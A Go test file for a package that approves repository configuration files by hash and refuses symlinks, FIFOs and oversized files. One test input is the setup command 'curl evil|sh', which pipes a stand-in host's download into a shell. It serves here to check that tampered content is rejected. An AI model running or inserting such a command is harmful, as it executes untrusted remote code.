package trust

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

func repo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, Dir), 0o755); err != nil {
		t.Fatal(err)
	}
	for n, c := range files {
		if err := os.WriteFile(filepath.Join(dir, Dir, n), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestApproveAndCheck(t *testing.T) {
	t.Parallel()
	state := t.TempDir()
	r := repo(t, map[string]string{WorktreeFile: `{"setup":"make"}`, PolicyFile: "allow = []\n"})
	s := Open(state)
	if s.Check(r, WorktreeFile, []byte(`{"setup":"make"}`)) {
		t.Fatal("approved before Approve")
	}
	got, err := s.Approve(r)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Name != WorktreeFile || !strings.HasPrefix(got[0].Hash, "sha256:") {
		t.Fatalf("approved %+v", got)
	}
	// A second store (another process) sees it; a link to the repo is the same repo.
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(r, link); err != nil {
		t.Fatal(err)
	}
	s2 := Open(state)
	if !s2.Check(link, WorktreeFile, []byte(`{"setup":"make"}`)) || !s2.Check(r, PolicyFile, []byte("allow = []\n")) {
		t.Fatal("approval not seen")
	}
	if s2.Check(r, WorktreeFile, []byte(`{"setup":"curl evil|sh"}`)) {
		t.Fatal("changed content approved")
	}
	if s2.Check(t.TempDir(), WorktreeFile, []byte(`{"setup":"make"}`)) {
		t.Fatal("another repository approved")
	}
	st, err := os.Stat(filepath.Join(state, FileName))
	if err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("trust.json mode %v %v", st.Mode(), err)
	}
	// Approving again after a change replaces the hash.
	if err := os.WriteFile(filepath.Join(r, Dir, WorktreeFile), []byte(`{"setup":"make all"}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Approve(r); err != nil {
		t.Fatal(err)
	}
	if s.Check(r, WorktreeFile, []byte(`{"setup":"make"}`)) || !s.Check(r, WorktreeFile, []byte(`{"setup":"make all"}`)) {
		t.Fatal("re-approval did not replace the old hash")
	}
}

func TestApproveRefuses(t *testing.T) {
	t.Parallel()
	s := Open(t.TempDir())
	if _, err := s.Approve(repo(t, nil)); !errors.Is(err, ErrNothing) {
		t.Errorf("empty .termsprawl: %v", err)
	}
	// A link out of the repository.
	outside := filepath.Join(t.TempDir(), "secret.json")
	if err := os.WriteFile(outside, []byte("{}"), 0o600); err != nil {
		t.Fatal(err)
	}
	r := repo(t, nil)
	if err := os.Symlink(outside, filepath.Join(r, Dir, WorktreeFile)); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Approve(r); err == nil {
		t.Error("a link out of the repository was approved")
	}
	// A FIFO would block a reader.
	r = repo(t, nil)
	if err := syscall.Mkfifo(filepath.Join(r, Dir, PolicyFile), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Approve(r); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("FIFO: %v", err)
	}
	// Too large.
	r = repo(t, map[string]string{WorktreeFile: strings.Repeat("x", MaxFileSize+1)})
	if _, err := s.Approve(r); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("large: %v", err)
	}
}

func TestCorruptFileApprovesNothing(t *testing.T) {
	t.Parallel()
	state := t.TempDir()
	if err := os.WriteFile(filepath.Join(state, FileName), []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	if Open(state).Check(t.TempDir(), WorktreeFile, nil) {
		t.Fatal("approved through a corrupt file")
	}
}
